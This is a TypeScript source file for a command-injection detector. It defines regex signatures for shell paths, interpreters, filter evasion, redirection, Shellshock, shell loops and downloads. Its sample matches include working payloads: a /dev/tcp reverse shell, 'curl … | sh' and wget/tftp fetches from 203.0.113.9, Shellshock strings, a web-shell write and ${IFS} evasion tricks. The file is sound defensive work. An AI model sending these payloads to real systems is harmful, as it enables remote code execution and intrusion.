import type { Signature, Span } from '../detector.ts'
import { firstMatch } from '../matching/first-match.ts'

const everywhere = ['query', 'body', 'path', 'referer', 'userAgent', 'user'] as const

const farthest = 200
/** The middle word of a loop, condition or case, and the first one, which stands before it. */
const controls = [
  { middle: /[;\n]\s{0,4}do\s/, first: /\b(?:for|while|until)\s/ },
  { middle: /[;\n]\s{0,4}then\b/, first: /\bif\s{1,4}(?:\[{1,2}|test)\s/ },
  { middle: /;;\s{0,4}esac/, first: /\)/ },
]
const sourced = [/[;|&]\s{0,4}\.\s{1,4}[~/]\w/, /[;|&]\s?(?:function\s)?\w{1,20}\s?\(\)\s?\{/]

function findControl(text: string): Span | undefined {
  for (const { middle, first } of controls) {
    const match = middle.exec(text)
    if (!match) continue
    const from = Math.max(0, match.index - farthest)
    const start = text.slice(from, match.index).search(first)
    if (start !== -1) return { start: from + start, end: match.index + match[0].length }
  }
  return undefined
}

const loaders = [/\btftp\s{1,3}-[gr]\s/, /\bcurl\s{1,3}-[A-Za-z]{1,6}\s{1,3}["']?[\w.-]{1,16}[:/]/]

/** `curl -s http://… | sh`, `wget http://… -O x`; a bare "curl http://…" is asked about. */
function findDownload(text: string): Span | undefined {
  const program = /\b(?:curl|wget|lwp-download)\s/.exec(text)
  if (!program) return undefined
  const rest = text.slice(program.index)
  const address = /(?:https?|ftp):\/\/[^\s|;&]+/.exec(rest)
  if (!address || address.index > farthest || /[|;&]/.test(rest.slice(0, address.index))) return undefined
  const end = address.index + address[0].length
  const use = /^\s{0,4}(?:[|;&>]|-{1,2}[oO]|\)|`)/.exec(rest.slice(end))
  const isClosed = /[)`]$/.test(address[0])
  if (!use && !isClosed) return undefined
  return { start: program.index, end: program.index + end + (use?.[0].length ?? 0) }
}

/** Forms that only command lines have: paths of shells, interpreters, redirections, loops, downloads. */
export const forms: readonly Signature[] = [
  {
    id: 'cmdi-shell-path',
    quietIn: ['prose', 'repository'],
    title: 'a shell or interpreter by its path',
    fields: everywhere,
    view: 'shell',
    signs: ['bin/', 'cmd.exe', 'command.com', 'comspec', 'powershell', '/dev/tcp', '/dev/udp', 'system32'],
    patterns: [
      /\/(?:usr\/(?:local\/)?)?s?bin\/(?:[a-z]{0,3}sh|bash|busybox|env|cat|ls|id|nc|ncat|netcat|wget|curl|perl|python\d?|ruby|php|uname|whoami|ping|echo|rm|nslookup|tail|head|more|less|sleep|find|awk|sed|telnet|touch|chmod|ps|kill)\b/i,
      /\/dev\/(?:tcp|udp)\//,
      /\bcmd(?:\.exe)?\s{0,4}(?:\/{1,2}|\?\/)[ckq]\b/i,
      /\b(?:system32|winnt)[\\/]{1,4}[\w\\/]{0,20}(?:cmd|command|powershell|calc|net|ping|certutil)\b/i,
      /%COMSPEC%|\bcommand\.com\b|[\\/]cmd\.exe(?![\w.-])/i,
    ],
    confidence: 0.75,
    matches: [
      'a=/bin/sh',
      'a=bash+-i+>%26+/dev/tcp/203.0.113.9/4444',
      'a=cmd.exe+/c+dir',
      'a=c:\\windows\\system32\\cmd.exe',
    ],
    ignores: ['path=/cgi-bin/search', 'q=bin+bags', 'q=/usr/share/doc', 'q=command+center'],
  },
  {
    id: 'cmdi-interpreter',
    quietIn: ['search box'],
    title: 'an interpreter told to run code',
    fields: everywhere,
    view: 'shell',
    signs: [
      'perl',
      'python',
      'ruby',
      'php',
      'node',
      'bash',
      'sh -',
      'lua',
      'nc -',
      'ncat',
      'netcat',
      'mkfifo',
      'powershell',
      'pwsh',
      'awk',
      'base64 -',
      'socat',
    ],
    patterns: [
      /\b(?:perl|python[23]?|ruby|php|node|lua|bash|sh|zsh|ksh|dash)\s{1,4}-[a-z]{0,3}[ceri]\b\s{0,3}\S/i,
      /\b(?:nc|ncat|netcat)(?:\.exe|\.traditional|\.openbsd)?\s{1,3}[^&\n]{0,16}(?:-[ec]\b|\d{2,5}\b)/i,
      /\b(?:nc|ncat|netcat)\s{1,3}[a-z][\w.-]{1,20}\s\d{2,5}\b/i,
      /\bmkfifo\s{1,3}\/|\bbase64\s{1,3}-{1,2}d|\|\s{0,3}(?:ba|z|k|da)?sh\b/i,
      /\b(?:powershell|pwsh)(?:\.exe)?\s{1,4}[-"'(/&i]/i,
      /\bawk\s{1,3}['"]?(?:BEGIN|\{)|\bsocat\s{1,3}(?:tcp|exec|-)/i,
    ],
    confidence: 0.65,
    matches: [
      "a=perl+-e+'print+1'",
      'a=python+-c+"import+os"',
      'a=powershell+-enc+AAAA',
      'a=echo+x|base64+-d|sh',
    ],
    ignores: ['q=perl+book', 'q=python+-+snake', 'q=node+js+php+ruby'],
  },
  {
    id: 'cmdi-evasion',
    quietIn: ['prose'],
    title: 'blanks and words a shell puts together',
    fields: ['query', 'body', 'path', 'referer', 'userAgent'],
    view: 'decoded',
    signs: ['ifs', '$@', '${', "$'", '/?', '?/', '*/', '{', "''", '""', '\\', '^', '$9', '$(('],
    patterns: [
      /\$\{?IFS\b|\$\(\(|\$\{[@!#]\w{0,20}\}/i,
      /\/(?:[a-z?*]{0,6}\?[a-z?*]{0,6}\/){1,4}[\w?*]/i,
      /\{(?:cat|ls|wget|curl|nc|echo|ping|id|sleep|bash|sh|uname|tac|nl|head|tail|base64),[^{}]{1,24}\}/i,
      /\$\{(?:PATH|HOME|PWD|SHELL|HOSTNAME|OLDPWD|IFS|LS_COLORS|BASH\w{0,12})(?::|%|#|\})/i,
      /\$'\\x[0-9a-f]{2}/i,
      /\b(?:c\\?a\\t|c\\at|ca\\t|w['"]{2}ho|who['"]{2}ami|c['"]{2}at|ca['"]{2}t|l['"]{2}s|w\^h\^o|ne\^t|p\^ing|n\^e\^t)\b/i,
      /\b[a-z]{1,6}\$[@*][a-z]{1,8}\b/i,
    ],
    confidence: 0.55,
    matches: ['a=cat${IFS}x', 'a=/???/??t', 'a={cat,x}', 'a=;${HOME:0:1}etc'],
    ignores: ['a=${name}', 'q=what?/where?', 'q={a,b}', 'q=path/to/*/file'],
  },
  {
    id: 'cmdi-redirection',
    quietIn: ['search box'],
    title: 'output written to a file, or a file read in',
    fields: ['query', 'body'],
    view: 'decoded',
    signs: ['>', '<'],
    patterns: [
      /(?:[^<>=-]|^)>{1,2}\s{0,3}\/(?:tmp|var|dev|etc|home|usr)\//i,
      /(?:[^<>=-]|^)>{1,2}\s{0,3}[\w./\\-]{1,20}\.(?:php|jsp|aspx?|sh|txt|bat|pl|py)\b/i,
      /(?:[^<>=-]|^)>{1,2}\s{0,3}&\s?\d/,
      /[;|&]\s?[\w/]{0,20}\s?<\s?\/(?:etc|proc|var)\//i,
      /\b[12]>&[12]|>\s?\/dev\/null/i,
    ],
    confidence: 0.5,
    matches: ['a=x+>+/tmp/a', 'a=echo+1>>shell.php', 'a=x+2>%261'],
    ignores: ['q=a+->+b', 'q=5+>+4', 'q=<b>/tmp</b>'],
  },
  {
    id: 'cmdi-shellshock',
    title: 'a function definition for bash (Shellshock, CVE-2014-6271)',
    fields: [...everywhere, 'host'],
    view: 'decoded',
    signs: ['()'],
    structure: 'the empty brackets of a function at the start, its body, and something behind it',
    find(text) {
      const head = /^[\w=\s]{0,20}\(\)\s{0,4}\{/.exec(text)
      const body = head && /^[^}]*\}\s?;|^\s?_;\s?\}/.exec(text.slice(head[0].length))
      return head && body ? { start: 0, end: head[0].length + body[0].length } : undefined
    },
    confidence: 0.9,
    matches: ['a=()+{+:;};+/bin/bash', 'a=()+{+ignored;};id', 'a=()+{+_;+}+>_[$($())]+{+id;+}'],
    ignores: ['q=f()', 'q=main()+{', 'q=()'],
  },
  {
    id: 'cmdi-control-structure',
    title: 'a loop or a condition of a shell',
    fields: ['query', 'body', 'path'],
    view: 'decoded',
    signs: ['do ', 'then', 'esac', '. /', '. ~', '){', ') {'],
    structure: 'the first and the middle word of a loop or a condition, a sourced file, or a function',
    find: (text) => findControl(text) ?? firstMatch(text, sourced),
    confidence: 0.65,
    matches: [
      'a=;for+i+in+$(ls);do+id;done',
      'a=;if+[+1+-eq+1+];then+sleep+5;fi',
      'a=x;case+x+in+x)+id;;+esac',
      'a=;.+/tmp/x',
    ],
    ignores: ['q=what+to+do', 'q=if+then+else', 'q=for+a+while', 'q=etc.+/+more'],
  },
  {
    id: 'cmdi-download',
    quietIn: ['search box'],
    title: 'a download that is run or saved',
    fields: everywhere,
    view: 'shell',
    signs: ['curl', 'wget', 'lwp-download', 'fetch ', 'tftp'],
    structure: 'a program that loads an address, and what becomes of it: a pipe, a file, another command',
    find: (text) => findDownload(text) ?? firstMatch(text, loaders),
    confidence: 0.65,
    matches: [
      'a=x+curl+http://203.0.113.9/i.sh|sh',
      'a=expr+wget+http://203.0.113.9/a+-O+/tmp/a',
      'a=tftp+-g+-r+a+203.0.113.9',
    ],
    ignores: ['q=curl+http://example.org', 'q=wget+download+windows', 'q=fetch+quest'],
  },
]
